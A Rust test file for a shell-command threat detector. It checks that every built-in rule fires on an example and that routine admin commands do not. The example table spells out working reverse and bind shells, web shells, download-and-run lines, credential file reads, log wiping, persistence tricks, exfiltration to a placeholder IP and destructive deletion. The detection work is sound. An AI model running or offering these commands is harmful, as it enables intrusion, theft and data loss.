//! Every built-in rule fires on at least one realistic example, and a set of everyday admin
//! commands fires nothing at medium or above.

use huoyan_cmdscan::{scan, Detector};

const EXAMPLES: &[(&str, &str)] = &[
    ("revshell.dev_tcp", "bash -i >& /dev/tcp/198.51.100.4/443 0>&1"),
    ("revshell.netcat_exec", "ncat 198.51.100.4 443 -e /bin/bash"),
    ("revshell.fifo_pipe", "mknod /tmp/p p && /bin/sh 0</tmp/p | nc 198.51.100.4 443 1>/tmp/p"),
    ("revshell.network_tool_to_shell", "telnet 198.51.100.4 80 | /bin/bash | telnet 198.51.100.4 81"),
    ("revshell.socat_exec", "socat TCP:198.51.100.4:443 EXEC:/bin/sh"),
    ("revshell.curl_telnet", "C='curl -Ns telnet://198.51.100.4:443'; $C </dev/null 2>&1 | sh 2>&1 | $C"),
    ("revshell.python_socket", "python -c 'import socket,subprocess,os;s=socket.socket();s.connect((\"198.51.100.4\",443));os.dup2(s.fileno(),0);subprocess.call([\"/bin/sh\",\"-i\"])'"),
    ("revshell.perl_socket", "perl -e 'use Socket;$i=\"198.51.100.4\";$p=443;socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,\">&S\");exec(\"/bin/sh -i\");};'"),
    ("revshell.php_fsockopen", "php -r '$sock=fsockopen(\"198.51.100.4\",443);exec(\"/bin/sh -i <&3 >&3 2>&3\");'"),
    ("revshell.ruby_socket", "ruby -rsocket -e'f=TCPSocket.open(\"198.51.100.4\",443).to_i;exec sprintf(\"/bin/sh -i <&%d >&%d 2>&%d\",f,f,f)'"),
    ("revshell.lua_socket", "lua -e \"require('socket');t=socket.tcp();t:connect('198.51.100.4','443');os.execute('/bin/sh -i <&3 >&3 2>&3');\""),
    ("revshell.awk_inet", "awk 'BEGIN {s = \"/inet/tcp/0/198.51.100.4/443\"; while(42) { s |& getline c; print c |& s }}' /dev/null"),
    ("revshell.zsh_ztcp", "zsh -c 'zmodload zsh/net/tcp && ztcp 198.51.100.4 443 && zsh >&$REPLY 2>&$REPLY 0>&$REPLY'"),
    ("revshell.node_socket", "node -e 'var net=require(\"net\"),cp=require(\"child_process\"),sh=cp.spawn(\"/bin/sh\",[]);var c=new net.Socket();c.connect(443,\"198.51.100.4\",function(){c.pipe(sh.stdin);})'"),
    ("revshell.rustcat", "rcat connect -s bash 198.51.100.4 443"),
    ("revshell.source_socket_shell", "c,_:=net.Dial(\"tcp\",\"198.51.100.4:443\");cmd:=exec.Command(\"/bin/sh\")"),
    ("revshell.shell_redirect_fd", "sh <&3 >&3 2>&3"),
    ("bindshell.netcat_listen_exec", "nc -lvnp 31337 -e /bin/bash"),
    ("bindshell.socat_listen", "socat TCP-LISTEN:31337,reuseaddr,fork EXEC:/bin/sh,pty"),
    ("revshell.msfvenom_payload", "msfvenom -p linux/x64/shell_reverse_tcp LHOST=198.51.100.4 LPORT=443 -f elf -o s"),
    ("webshell.request_to_exec", "echo '<?php system($_GET[\"c\"]); ?>' > /var/www/html/.x.php"),
    ("webshell.jsp_exec", "<% Runtime.getRuntime().exec(request.getParameter(\"c\")); %>"),
    ("download.pipe_to_shell", "curl -fsSL http://198.51.100.4/i.sh | bash"),
    ("download.pipe_to_interpreter", "wget -qO- http://198.51.100.4/x.py | python3"),
    ("download.process_substitution", "bash <(curl -s http://198.51.100.4/x)"),
    ("download.then_execute", "wget http://198.51.100.4/k -O /tmp/k; chmod +x /tmp/k; /tmp/k"),
    ("download.into_writable", "curl -o /dev/shm/.s http://example.net/s"),
    ("download.into_hidden_writable", "wget http://example.net/a -O /tmp/.ssh-agent"),
    ("download.script_or_binary", "wget https://example.net/payload.elf"),
    ("download.raw_ip_url", "curl http://198.51.100.4:8080/a"),
    ("stage.chmod_writable", "chmod 755 /var/tmp/update"),
    ("obfuscation.base64_to_shell", "echo Y2F0IC9ldGMvc2hhZG93 | base64 --decode | sh"),
    ("obfuscation.eval_decode", "python -c \"exec(base64.b64decode('cHJpbnQoMSk='))\""),
    ("obfuscation.eval_command_substitution", "eval \"$(echo aWQ= | base64 -d)\""),
    ("obfuscation.hex_to_shell", "echo 6964 | xxd -r -p | sh"),
    ("tunnel.frp", "nohup ./frpc -c frpc.ini &"),
    ("tunnel.ngrok_like", "./chisel client 198.51.100.4:8000 R:socks"),
    ("tunnel.earthworm", "./ew_for_linux64 -s rssocks -d 198.51.100.4 -e 8888"),
    ("tunnel.ssh_forward", "ssh -fNR 2222:localhost:22 user@198.51.100.4"),
    ("tunnel.socat_relay", "socat TCP-LISTEN:8080,fork TCP:10.0.0.5:80"),
    ("tunnel.proxychains", "proxychains4 nmap -sT 10.0.0.0/24"),
    ("tunnel.iptables_redirect", "iptables -t nat -A PREROUTING -p tcp --dport 80 -j DNAT --to 10.0.0.5:22"),
    ("scanner.port_scanner", "./fscan -h 10.0.0.0/16"),
    ("scanner.web_and_vuln", "sqlmap -u http://10.0.0.5/?id=1 --dump"),
    ("scanner.bruteforce", "hydra -l root -P pass.txt ssh://10.0.0.5"),
    ("scanner.recon_scripts", "curl -L https://example.net/linpeas.sh -o lp.sh"),
    ("recon.sniffer", "tcpdump -i any -w /tmp/.c.pcap port 21"),
    ("cred.shadow_read", "cat /etc/shadow"),
    ("cred.cracking", "john --wordlist=rockyou.txt hashes"),
    ("cred.dumpers", "python3 mimipenguin.py"),
    ("cred.private_keys", "cat /root/.ssh/id_rsa"),
    ("cred.key_search", "grep -ri 'password=' /var/www"),
    ("cred.credential_files", "cat ~/.aws/credentials"),
    ("cred.credential_files", "cp -r /root/.ssh/ /tmp/k"),
    ("cred.credential_files", "cat /root/.ssh/backup_ed25519"),
    ("cred.proc_memory", "strings /proc/812/environ"),
    ("cred.keylogger_pam", "strace -f -p $(pgrep -f 'sshd: ') -e trace=read,write"),
    ("antiforensics.history_clear", "history -c"),
    ("antiforensics.histfile_disabled", "unset HISTFILE"),
    ("antiforensics.history_file_wiped", "ln -sf /dev/null ~/.bash_history"),
    ("antiforensics.login_records_wiped", "echo > /var/log/wtmp"),
    ("antiforensics.log_wipe_bulk", "find /var/log -type f -exec truncate -s0 {} \\;"),
    ("antiforensics.log_delete", "rm -f /var/log/nginx/access.log.1"),
    ("antiforensics.shred", "shred -uz notes.txt"),
    ("antiforensics.timestomp", "touch -r /bin/ls /usr/bin/.sshd"),
    ("antiforensics.immutable", "chattr +i /root/.ssh/authorized_keys"),
    ("antiforensics.disable_defenses", "systemctl stop auditd"),
    ("antiforensics.kill_own_shell", "kill -9 $$"),
    ("antiforensics.mount_hide_proc", "mount -o bind /tmp/empty /proc/4242"),
    ("persist.authorized_keys_write", "echo ssh-ed25519 AAAA... >> /root/.ssh/authorized_keys"),
    ("persist.account_files_write", "echo 'x:$1$abc$def:0:0::/root:/bin/bash' >> /etc/passwd"),
    ("persist.account_create", "useradd -m -s /bin/bash backup2"),
    ("persist.crontab_edit", "(crontab -l; echo '* * * * * /tmp/.x') | crontab -"),
    ("persist.systemd_enable", "systemctl enable --now sysupdate.service"),
    ("persist.rc_file_write", "echo '/tmp/.x &' >> /etc/rc.local"),
    ("persist.preload_write", "echo /usr/lib/libx.so > /etc/ld.so.preload"),
    ("persist.kernel_module_load", "insmod /tmp/diamorphine.ko"),
    ("persist.setuid_shell", "chmod u+s /bin/bash"),
    ("persist.setuid_shell", "setcap cap_setuid+ep /usr/bin/python3.11"),
    ("persist.boot_script_edit", "sed -i -e \"4i $RSHELL\" /etc/network/if-up.d/upstart"),
    ("persist.boot_script_edit", "echo x | tee /etc/udev/rules.d/71-vbox-kernel-drivers.rules > /dev/null"),
    ("persist.setuid_any", "chmod 4777 $TMPDIR2/croissant"),
    ("persist.account_files_write", "sudo useradd -ou 0 -g 0 john"),
    ("cred.fake_sudo_prompt", "read -sp \"[sudo] password for $USER: \" sudopass"),
    ("persist.at_job", "at now + 1 minute -f /tmp/x"),
    ("persist.redis_config_write", "config set dir /root/.ssh/"),
    ("persist.database_file_write", "select '<?php eval($_POST[1]);?>' into outfile '/var/www/html/x.php';"),
    ("exec.database_program", "COPY cmd_exec FROM PROGRAM 'id';"),
    ("compile.compiler", "gcc exploit.c -o exploit"),
    ("compile.in_writable", "gcc /tmp/.x/dirty.c -o /tmp/.x/d -lpthread"),
    ("compile.exploit_flags", "gcc -fPIC -shared -o hide.so hide.c -ldl"),
    ("hidden.writable_dotfile", "cp x /dev/shm/.cache-x"),
    ("hidden.dots_only_name", "mkdir '/usr/lib/... /'"),
    ("hidden.sensitive_suffix_in_writable", "vi /tmp/exp.c"),
    ("hidden.dotfile_sensitive_suffix", "vim .x.c"),
    ("exfil.archive_to_network", "tar czf - /var/www | nc 198.51.100.4 9000"),
    ("exfil.upload", "curl -T /tmp/db.sql.gz ftp://198.51.100.4/"),
    ("miner.names", "./xmrig -o stratum+tcp://pool.example:3333 -u wallet"),
    ("impact.destructive", "rm -rf --no-preserve-root /"),
    ("exec.memfd_or_deleted", "exec -a '[kworker/0:1]' ./bot"),
    ("recon.account_discovery", "find / -perm -4000 -type f 2>/dev/null"),
    ("recon.docker_escape", "docker run -v /:/mnt --rm -it alpine chroot /mnt sh"),
];

#[test]
fn every_rule_has_a_firing_example() {
    let detector = Detector::builtin().expect("rules");
    for (rule, example) in EXAMPLES {
        let hits = detector.scan(example);
        assert!(
            hits.iter().any(|h| h.rule == *rule),
            "{rule} did not fire on {example:?}: {hits:?}"
        );
    }
    let ids: std::collections::HashSet<&str> = EXAMPLES.iter().map(|(r, _)| *r).collect();
    for (file, text) in huoyan_cmdscan::BUILTIN_RULES {
        for line in text.lines() {
            if let Some(id) = line.strip_prefix("id = \"") {
                let id = id.trim_end_matches('"');
                assert!(ids.contains(id), "{file}: rule {id} has no example");
            }
        }
    }
}

#[test]
fn everyday_admin_commands_are_not_alerts() {
    for cmd in [
        "ssh admin@10.0.0.5",
        "ssh -i ~/.ssh/id_ed25519 -p 2222 deploy@example.net",
        "scp backup.tgz admin@10.0.0.5:/srv/",
        "curl -fsSL https://example.net/status",
        "wget -O latest.tar.gz https://wordpress.org/latest.tar.gz",
        "docker run --rm -p 8080:80 nginx",
        "journalctl -u nginx --since today",
        "cat /etc/passwd | wc -l",
        "systemctl restart nginx",
        "crontab -l",
        "vim ~/.bashrc",
        "make",
        "tail -f /var/log/syslog",
        "find / -name '*.log' -mtime +30",
        "history | grep ssh",
        "python3 manage.py runserver 0.0.0.0:8000",
        "nc -zv 10.0.0.5 22",
        "export PATH=$HOME/.local/bin:$PATH",
        "rsync -av /srv/ backup:/srv/",
        // public keys are meant to be read
        "cat /root/.ssh/backup_ed25519.pub",
        "ssh-keygen -lf /root/.ssh/id_ed25519.pub && cat /root/.ssh/id_ed25519.pub",
    ] {
        let alerts: Vec<_> = scan(cmd).into_iter().filter(|h| h.is_alert()).collect();
        assert!(alerts.is_empty(), "{cmd}: {alerts:?}");
    }
}

#[test]
fn detector_survives_noise() {
    const ALPHABET: &[u8] = b"\n\\\"'{}[];:=#@ \t*/-|&$`()<>aAz0+=";
    let mut x: u64 = 0x9E37_79B9_7F4A_7C15;
    for round in 0..2000usize {
        let len = round % 400;
        let bytes: Vec<u8> = (0..len)
            .map(|_| {
                x ^= x << 13;
                x ^= x >> 7;
                x ^= x << 17;
                ALPHABET[(x % ALPHABET.len() as u64) as usize]
            })
            .collect();
        let _ = scan(&String::from_utf8_lossy(&bytes));
    }
}
